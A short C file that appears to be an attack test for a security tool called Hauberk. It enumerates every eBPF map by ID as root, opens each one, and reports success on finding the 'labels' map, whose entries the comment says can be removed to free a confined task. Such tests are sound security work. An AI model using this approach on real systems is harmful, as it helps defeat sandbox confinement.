/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Hauberk's maps by their numbers, and their entries changed.
 *
 * bpf(2) hands out a descriptor of any map to whoever is root, without a file and without asking its owner. An entry of the
 * labels removed sets a task free.
 *
 * ---
 * tries: [D6]
 * wins: said
 */
#include "attack.h"
#include <linux/bpf.h>

static long bpf(int command, union bpf_attr *attr)
{
	return syscall(SYS_bpf, command, attr, sizeof(*attr));
}

int main(void)
{
	uint32_t id = 0;

	for (;;) {
		struct bpf_map_info about = { 0 };
		union bpf_attr next = { .start_id = id }, by_number = { 0 }, info = { 0 };
		int fd;

		if (bpf(BPF_MAP_GET_NEXT_ID, &next))
			break;
		id = next.next_id;
		by_number.map_id = id;
		fd = bpf(BPF_MAP_GET_FD_BY_ID, &by_number);
		if (fd < 0)
			continue;
		info.info.bpf_fd = fd;
		info.info.info_len = sizeof(about);
		info.info.info = (unsigned long)&about;
		if (!bpf(BPF_OBJ_GET_INFO_BY_FD, &info) && !strcmp(about.name, "labels"))
			return won();
		close(fd);
	}
	return failed("no map of labels can be had");
}
